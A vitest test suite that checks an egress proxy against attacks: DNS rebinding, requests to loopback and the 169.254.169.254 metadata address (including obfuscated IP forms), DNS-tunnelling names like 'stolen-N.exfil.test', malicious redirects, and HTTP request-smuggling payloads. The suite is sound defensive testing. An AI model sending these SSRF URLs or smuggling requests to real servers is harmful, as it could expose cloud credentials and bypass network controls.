import { lookup } from 'node:dns/promises';
import { connect } from 'node:net';

import { describe, expect, it } from 'vitest';

import { tcpDial } from './upstream/dial.ts';
import { machineAddresses, systemResolve } from './upstream/resolve.ts';
import { eventually, PUBLIC, rules, run, startHttp, startWorld, talk, type WorldOptions } from './testing.ts';

const get = (url: string, host: string, more = '') =>
  `GET ${url} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n${more}\r\n`;

/** What the proxy answers to one plain request: the status, and whether anything was resolved or dialled. */
async function outcome(options: WorldOptions, request: string) {
  await using world = await startWorld(options);
  const heard = await talk(world.port, [request]);
  expect(world.problems).toEqual([]);
  return {
    status: Number(heard.slice(9, 12)),
    heard,
    resolved: world.resolved,
    dialled: world.dialled,
    record: world.records.at(-1),
  };
}

describe('attacks on the egress proxy (SB-3, QA-4)', () => {
  it('a name that rebinds, public first and then private, is resolved once and dialled where it was vetted', async () => {
    await using server = await startHttp((_request, response) => response.end('ok'));
    let asked = 0;
    const rebinding = () => [(asked += 1) === 1 ? PUBLIC : '127.0.0.1'];
    await using world = await startWorld({
      rules: rules(['*']),
      names: { 'rebind.test': rebinding },
      ports: { 80: server.port },
    });
    expect(await talk(world.port, [get('http://rebind.test/', 'rebind.test')])).toMatch(/^HTTP\/1\.1 200/);
    expect([world.resolved, world.dialled]).toEqual([['rebind.test'], [`${PUBLIC}:80`]]);
    expect(await talk(world.port, [get('http://rebind.test/', 'rebind.test')])).toMatch(/^HTTP\/1\.1 403/);
    expect(world.dialled).toEqual([`${PUBLIC}:80`]);
  });

  it.each([
    [['127.0.0.1']],
    [['169.254.169.254']],
    [[PUBLIC, '10.0.0.1']],
    [['::1', PUBLIC]],
    [['::ffff:169.254.169.254']],
    [['64:ff9b::a9fe:a9fe']],
  ])('a name that leads to %j is refused, and nothing is dialled', async (addresses) => {
    const options = { rules: rules(['*']), names: { 'inside.test': addresses } };
    expect(await outcome(options, get('http://inside.test/', 'inside.test'))).toMatchObject({
      status: 403,
      dialled: [],
    });
    expect(await outcome(options, 'CONNECT inside.test:443 HTTP/1.1\r\n\r\n')).toMatchObject({
      status: 403,
      dialled: [],
      record: { rule: 'address' },
    });
  });

  it.each([
    ['http://127.0.0.1/', '127.0.0.1', 403],
    ['http://[::1]/', '[::1]', 403],
    ['http://[::ffff:127.0.0.1]/', '[::ffff:127.0.0.1]', 403],
    ['http://169.254.169.254/latest/meta-data/', '169.254.169.254', 403],
    ['http://2852039166/', '2852039166', 400],
    ['http://0xa9fea9fe/', '0xa9fea9fe', 400],
    ['http://0251.0376.0251.0376/', '0251.0376.0251.0376', 400],
    ['http://127.1/', '127.1', 400],
    ['http://0/', '0', 400],
    ['http://allowed.test@169.254.169.254/', 'allowed.test', 400],
    ['http://169.254.169.254\\@allowed.test/', 'allowed.test', 400],
    ['http://[fe80::1%25eth0]/', '[fe80::1%25eth0]', 400],
  ])('%s is refused, also where everything public and everything private is allowed', async (url, host, status) => {
    const allow_private = status === 403 && host.includes('127') ? [] : ['10.0.0.0/8', '169.254.0.0/16'];
    const found = await outcome({ rules: rules(['*'], { allow_private }) }, get(url, host));
    expect(found).toMatchObject({ status, resolved: [], dialled: [], record: { verdict: 'deny' } });
  });

  it('DNS tunnelling: names that are not allowed are never resolved', async () => {
    await using world = await startWorld({ rules: rules(['example.org']) });
    for (let part = 0; part < 20; part += 1) {
      const name = `stolen-${part}.exfil.test`;
      await talk(world.port, [get(`http://${name}/`, name)]);
      await talk(world.port, [`CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`]);
    }
    expect(world.resolved).toEqual([]);
    expect(world.context.counters()).toMatchObject({ denied: 40, requests: 40, bytesUp: 0 });
  });

  it('a redirect is followed by the client, so that the next hop is decided anew', async () => {
    await using server = await startHttp((request, response) => {
      response
        .writeHead(302, { location: request.url === '/out' ? 'http://169.254.169.254/' : 'http://evil.test/' })
        .end();
    });
    await using world = await startWorld({
      rules: rules(['example.org']),
      names: { 'example.org': [PUBLIC] },
      ports: { 80: server.port },
    });
    for (const path of ['/out', '/evil']) {
      const ran = await run('curl', [
        '-sSL',
        '-o',
        '/dev/null',
        '-w',
        '%{num_redirects} %{http_code}',
        '-x',
        world.url,
        `http://example.org${path}`,
      ]);
      expect(ran.stdout).toBe('1 403');
    }
    expect(world.resolved).toEqual(['example.org', 'example.org']);
    expect(server.connections()).toBe(2);
  });

  it.each([
    ['another Host header', get('http://example.org/', 'evil.test')],
    ['two Host headers', get('http://example.org/', 'example.org', 'Host: evil.test\r\n')],
    ['another port in the Host header', get('http://example.org/', 'example.org:8080')],
    ['a path without a host', get('/', 'example.org')],
    ['https in the clear', get('https://example.org/', 'example.org')],
    [
      'a body with two lengths',
      get('http://example.org/', 'example.org', 'Content-Length: 5\r\nTransfer-Encoding: chunked\r\n') + '0\r\n\r\n',
    ],
    [
      'another transfer encoding',
      get('http://example.org/', 'example.org', 'Transfer-Encoding: gzip, chunked\r\n') + '0\r\n\r\n',
    ],
    ['a header that is folded', get('http://example.org/', 'example.org', 'X: a\r\n b\r\n')],
    [
      'a header with a space before the colon',
      get('http://example.org/', 'example.org', 'Transfer-Encoding : chunked\r\n'),
    ],
    ['no HTTP at all', '\u0016\u0003\u0001 garbage\r\n\r\n'],
    ['headers without end', `GET http://example.org/ HTTP/1.1\r\nX: ${'a'.repeat(100_000)}\r\n`],
  ])('request smuggling, %s: 400, a record, and nothing is sent', async (_what, request) => {
    const found = await outcome({ rules: rules(['*']), names: { 'example.org': [PUBLIC] } }, request);
    expect(found).toMatchObject({ status: 400, dialled: [], record: { verdict: 'deny', rule: 'request' } });
  });

  it('does not pass on what is meant for the proxy, and sends the Host that it decided on', async () => {
    const seen: string[][] = [];
    await using server = await startHttp((request, response) => {
      seen.push(request.rawHeaders);
      response
        .writeHead(200, { connection: 'close, X-Hop', 'x-hop': '1', 'proxy-authenticate': 'Basic', 'x-end': '2' })
        .end('ok');
    });
    await using world = await startWorld({
      rules: rules(['example.org']),
      names: { 'example.org': [PUBLIC] },
      ports: { 80: server.port },
    });
    const more =
      'Proxy-Authorization: Basic c2VjcmV0\r\nProxy-Connection: keep-alive\r\nTE: trailers\r\nConnection: X-Mine\r\nX-Mine: 1\r\nUpgrade: h2c\r\nCookie: a\r\nCookie: b\r\n';
    const heard = await talk(world.port, [get('http://example.org/', 'EXAMPLE.org', more)]);
    expect(seen).toEqual([['Host', 'example.org', 'Cookie', 'a', 'Cookie', 'b', 'Connection', 'close']]);
    expect(heard).toMatch(/x-end: 2/);
    expect(heard).not.toMatch(/x-hop|proxy-authenticate/i);
  });

  it('a body in a WebSocket handshake is not taken for frames: the request is forwarded plainly', async () => {
    await using server = await startHttp((request, response) => {
      request.on('data', () => undefined).on('end', () => response.end(`plain ${request.headers.upgrade}`));
    });
    const smuggled = get('http://evil.test/', 'evil.test');
    const more = `Upgrade: websocket\r\nConnection: Upgrade\r\nContent-Length: ${smuggled.length}\r\n`;
    const options = { rules: rules(['example.org']), names: { 'example.org': [PUBLIC] }, ports: { 80: server.port } };
    const found = await outcome(options, get('http://example.org/', 'example.org', more) + smuggled);
    expect(found).toMatchObject({
      status: 200,
      heard: expect.stringContaining('plain undefined'),
      resolved: ['example.org'],
    });
  });

  it('a client that sends too many requests without waiting is cut off', async () => {
    await using world = await startWorld({
      rules: rules(['*']),
      names: { 'slow.test': () => new Promise(() => undefined) },
    });
    await talk(world.port, [get('http://slow.test/', 'slow.test').replace('Connection: close\r\n', '').repeat(1_000)]);
    await eventually(() => world.context.counters().connectionsOpen === 0);
    expect(world.resolved.length).toBeLessThan(2);
    expect(world.records.some(({ reason }) => reason.includes('too many requests'))).toBe(true);
  });

  it('random bytes and broken requests end in an answer or a closed connection, and in no defect', async () => {
    const seeds = [
      'GET http://example.org/ HTTP/1.1\r\nHost: example.org\r\n\r\n',
      'CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n\u0016\u0003\u0001\u0002\u0000\u0001',
      'POST http://example.org/ HTTP/1.1\r\nHost: example.org\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n',
      'GET ws://example.org/ HTTP/1.1\r\nHost: example.org\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
    ];
    let seed = 5;
    const next = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
      return Math.floor(seed / 65_536) % below;
    };
    await using server = await startHttp((request, response) => request.pipe(response));
    await using world = await startWorld({
      rules: rules(['example.org']),
      names: { 'example.org': [PUBLIC] },
      ports: { 80: server.port, 443: server.port },
      init: { limits: { idleMs: 100, helloMs: 100 } },
    });
    for (let round = 0; round < 300; round += 1) {
      const bytes = Buffer.from(seeds[next(seeds.length)] ?? '', 'latin1');
      for (let count = next(5); count >= 0; count -= 1) bytes[next(bytes.length)] = next(256);
      const socket = connect({ host: '127.0.0.1', port: world.port });
      socket.on('error', () => undefined).resume();
      socket.end(bytes.subarray(0, 1 + next(bytes.length)));
      if (round % 30 === 29) await eventually(() => socket.closed);
    }
    await eventually(() => world.context.counters().connectionsOpen === 0);
    expect(world.problems).toEqual([]);
    const ids = (stage: string) => world.records.filter((record) => record.stage === stage).map(({ id }) => id);
    expect(new Set(ids('ended')).size).toBe(ids('ended').length);
    expect(ids('decided').filter((id) => !ids('ended').includes(id))).toEqual([]);
    expect(new Set(world.resolved)).toEqual(new Set(world.resolved.length > 0 ? ['example.org'] : []));
  });

  it('the real resolver finds localhost at loopback: refused, and reached only by an exception', async () => {
    await using server = await startHttp((_request, response) => response.end('decoy'));
    const found = await lookup('localhost', { all: true });
    expect(await systemResolve('localhost')).toEqual(found.map(({ address }) => address));
    expect(machineAddresses()).toContain('127.0.0.1');
    const options = { resolve: systemResolve, dial: tcpDial, ownAddresses: machineAddresses };
    const allow = [`localhost:${server.port}`];
    const request = get(`http://localhost:${server.port}/`, `localhost:${server.port}`);
    expect(await outcome({ rules: rules(allow), options }, request)).toMatchObject({
      status: 403,
      record: { rule: 'address' },
    });
    const excepted = { rules: rules(allow, { allow_private: ['127.0.0.0/8', '::1'] }), options };
    expect(await outcome(excepted, request)).toMatchObject({ status: 200, heard: expect.stringContaining('decoy') });
    expect(server.connections()).toBe(1);
  });
});
